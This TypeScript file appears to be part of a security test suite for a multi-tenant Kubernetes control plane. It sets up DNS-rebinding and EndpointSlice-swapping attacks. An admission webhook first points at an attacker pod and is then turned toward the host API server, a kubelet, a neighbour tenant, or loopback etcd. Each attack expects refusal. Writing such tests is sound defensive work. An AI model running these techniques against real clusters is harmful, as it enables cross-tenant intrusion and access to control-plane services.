import { createConnection } from 'node:net'
import { issueLeaf } from '../../src/controlplane/pki/issue.ts'
import { newAuthority } from '../../src/controlplane/pki/keys.ts'
import { apply, getJson, superKubectl, type Thing, world } from '../support/kubectl.ts'
import { type NameServer, startNameServer } from '../support/name-server.ts'
import { agnhost, pod, secret, service, shell } from '../support/objects.ts'
import { podReady, rolledOut, waitFor } from '../support/wait.ts'
import { nodeBesideApiServer, notReached, planePodIp, withWebhook } from './asked-webhook.ts'
import type { Attack, AttackSet } from './attack.ts'
import { type Ground, shop } from './ground.ts'
import { superApiAddress } from './outgoing.ts'
import { remove, type Written } from './ways.ts'

// A webhook that leads to the attacker's own pod until it was asked once, and then somewhere else: whoever looked at its address when it was made, or at the
// first call, has looked too early.

/** A zone of the attacker's: its name server is on the Internet, and super's DNS finds it there. */
const zone = 'rebound.example.com'
/** Of the places that it is to lead to: a URL has one port, wherever its name leads. */
const ports = [443, 2379, 6443, 8080, 10250]
const hook = 'hook'

interface Means {
  readonly names: NameServer
  /** Where a name leads at first. */
  readonly ownAddress: string
  readonly caBundle: string
}
let means: Means | undefined
const ready = (): Means => {
  if (!means) throw new Error('what rebinding needs was not prepared')
  return means
}

/** A server on each port, which says no to all it is asked about. One that is killed hangs up on whoever is connected, and comes again. */
const hookScript = `
serve() {
  while true; do
    /agnhost webhook --tls-cert-file=/keys/tls.crt --tls-private-key-file=/keys/tls.key --port=$1 &
    echo $! > /tmp/$1
    wait $!
  done
}
for port in ${ports.join(' ')}; do serve $port & done
wait`
const hookAnswers = /denied the request: this webhook denies all requests/

/** An API server keeps its connections, and looks at no name while it has one. */
const hangUp = ({ attacker: { kubectl } }: Ground, port: number): Promise<string> =>
  kubectl(['exec', hook, '-n', shop, '--', 'sh', '-c', `kill -9 $(cat /tmp/${port})`])

/** What is said of the first call after the webhook was turned. `isTurned` tells whether that call was led to the new place. */
const turned = async (
  ground: Ground,
  { name, clientConfig, port }: { name: string; clientConfig: object; port: number },
  turn: () => unknown,
  isTurned: (words: string) => boolean,
): Promise<string> =>
  withWebhook(ground, name, { ...clientConfig, caBundle: ready().caBundle }, async (ask) => {
    // Positive control: this very webhook is called where nothing forbids it.
    await waitFor('its own pod to be asked', async () => {
      const first = await ask()
      return hookAnswers.test(first) || Promise.reject(new Error(first))
    })
    await turn()
    await hangUp(ground, port)
    return waitFor('a call of the webhook after it was turned', async () => {
      const words = await ask()
      return isTurned(words) ? words : undefined
    })
  })

interface Place {
  readonly what: string
  readonly port: number
  readonly address: (ground: Ground) => string | Promise<string>
}

const byName = ({ what, port, address }: Place, index: number): Attack => ({
  name: `a webhook whose name leads to ${what} after its first call`,
  as: 'admin',
  attempt: async (ground) => {
    const { names, ownAddress } = ready()
    const target = await address(ground)
    const host = `n${index}.${zone}`
    names.lead(host, ownAddress)
    const clientConfig = { url: `https://${host}:${port}/always-deny` }
    return turned(
      ground,
      { name: `n${index}`, clientConfig, port },
      () => names.lead(host, target),
      () => names.answers(host).includes(target),
    )
  },
  refusal: notReached,
})

const byEndpoints = ({ what, port, address }: Place, index: number): Attack => ({
  name: `a webhook whose Service leads to ${what} after its first call`,
  as: 'admin',
  attempt: async (ground) => {
    const { attacker } = ground
    const target = await address(ground)
    const name = `e${index}`
    const front = service(shop, name, { selector: null, ports: [{ name: 'https', port: 443 }] }) as Written
    const behind = (to: string): object => ({
      apiVersion: 'discovery.k8s.io/v1',
      kind: 'EndpointSlice',
      metadata: { name, namespace: shop, labels: { 'kubernetes.io/service-name': name } },
      addressType: 'IPv4',
      endpoints: [{ addresses: [to] }],
      ports: [{ name: 'https', port, protocol: 'TCP' }],
    })
    await apply(attacker.kubectl, front, behind(ready().ownAddress))
    try {
      return await turned(
        ground,
        { name, clientConfig: { service: { namespace: shop, name, path: '/always-deny' } }, port },
        () => apply(attacker.kubectl, behind(target)),
        // Not its own pod, which says no, or was just hung up on.
        (words) => !hookAnswers.test(words) && !words.includes(`${ready().ownAddress}:`) && !words.includes('EOF'),
      )
    } finally {
      await remove(attacker, behind(target) as Written)
      await remove(attacker, front)
    }
  },
  refusal: notReached,
})

const superApi: Place = { what: "super's API server", port: 443, address: superApiAddress }
const kubelet: Place = { what: 'a kubelet', port: 10250, address: nodeBesideApiServer }
const neighbourApi: Place = {
  what: "the neighbour's API server",
  port: 6443,
  address: ({ neighbour }) => planePodIp(neighbour.controlPlaneNamespace, 'kube-apiserver'),
}
const neighbourPod: Place = { what: "the neighbour's pod", port: 8080, address: ({ neighbourPodIp }) => neighbourPodIp }
const loopback: Place = { what: 'loopback of its API server', port: 2379, address: () => '127.0.0.1' }

/** What super's DNS knows besides, after its own. */
const mark = '\n# The zone of an attack.\n'
const superNames = async (blocks: string): Promise<void> => {
  const at = ['-n', 'kube-system']
  const { data } = await getJson<Thing>(superKubectl, ['configmap', 'coredns', ...at])
  const [own = ''] = (data?.['Corefile'] ?? '').split(mark)
  const patch = JSON.stringify({ data: { Corefile: blocks ? `${own}${mark}${blocks}` : own } })
  await superKubectl(['patch', 'configmap', 'coredns', ...at, '--type=merge', '-p', patch])
  await superKubectl(['rollout', 'restart', 'deployment/coredns', ...at])
  await rolledOut(superKubectl, 'kube-system', 'deployment/coredns')
}

/** The machine that the nodes are on, as they see it. */
const outside = (): string => (world().nodes[0]?.ip ?? '').replace(/\.\d+$/, '.1')

/** Positive control: who is not fenced in gets a connection there. */
const isOpen = (host: string, port: number): Promise<boolean> =>
  new Promise((resolve) => {
    const socket = createConnection({ host, port, timeout: 3_000 })
    const end = (is: boolean) => () => {
      socket.destroy()
      resolve(is)
    }
    socket.once('connect', end(true)).once('error', end(false)).once('timeout', end(false))
  })

export const rebindingAttacks: AttackSet = {
  attacks: [...[superApi, kubelet, neighbourApi, neighbourPod, loopback].map(byName), ...[neighbourPod].map(byEndpoints)],

  prepare: async (ground) => {
    const { kubectl } = ground.attacker
    for (const { what, port, address } of [superApi, kubelet])
      if (!(await isOpen(await address(ground), port))) throw new Error(`${what} cannot be reached by anybody`)
    const authority = await newAuthority('evil', new Date())
    const { cert, key } = await issueLeaf(authority, {
      subject: { commonName: hook },
      usages: ['server'],
      names: [`*.${zone}`, `e0.${shop}.svc`],
      notBefore: new Date(Date.now() - 3_600_000),
      notAfter: new Date(Date.now() + 24 * 3_600_000),
    })
    const server = shell(hookScript, {
      image: agnhost,
      volumeMounts: [{ name: 'keys', mountPath: '/keys' }],
      readinessProbe: { tcpSocket: { port: ports.at(-1) }, periodSeconds: 1 },
    })
    await apply(
      kubectl,
      secret(shop, hook, { 'tls.crt': cert, 'tls.key': key }),
      pod(shop, hook, server, { volumes: [{ name: 'keys', secret: { secretName: hook } }] }),
    )
    const names = await startNameServer(outside())
    means = { names, ownAddress: '', caBundle: Buffer.from(authority.cert).toString('base64') }
    await Promise.all([superNames(`${zone}:53 {\n    forward . ${outside()}:${names.port}\n}\n`), podReady(kubectl, shop, hook)])
    const { status } = await getJson(kubectl, ['pod', hook, '-n', shop])
    means = { ...means, ownAddress: String(status?.['podIP']) }
  },
  cleanUp: async () => {
    await superNames('')
    await means?.names.close()
  },
}
